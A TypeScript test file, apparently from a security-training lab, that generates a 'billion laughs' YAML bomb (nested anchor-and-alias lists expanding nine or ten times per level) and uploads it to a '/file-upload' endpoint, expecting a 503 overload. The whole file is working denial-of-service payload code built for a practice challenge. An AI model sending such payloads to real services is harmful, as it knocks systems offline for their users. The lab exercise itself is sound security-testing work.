import type { Attack, Tools } from '#lab'

const NAMES = 'abcdefghi'.split('')

/** Nested lists: each line contains the one before this many times. */
function bomb(first: string, times: number): string {
  const lines = NAMES.map((name, index) => {
    const part = index === 0 ? first : `*${NAMES[index - 1]}`
    return `${name}: &${name} [${Array(times).fill(part).join(', ')}]`
  })
  return `${lines.join('\n')}\n`
}

async function blowUp({ http, expect }: Tools, yaml: string): Promise<void> {
  const form = new FormData()
  form.append('file', new File([yaml], 'complaint.yml', { type: 'application/yaml' }))
  const answer = await http.post('/file-upload', form)
  expect(answer.status === 503, `the complaint was answered with ${answer.status}`)
}

export const attacks: Attack[] = [
  {
    challenge: 'yamlBombChallenge',
    name: 'nine lists of nine lists',
    run: (tools) => blowUp(tools, bomb('"lol"', 9)),
  },
  { challenge: 'yamlBombChallenge', name: 'ten of each', run: (tools) => blowUp(tools, bomb('_', 10)) },
]
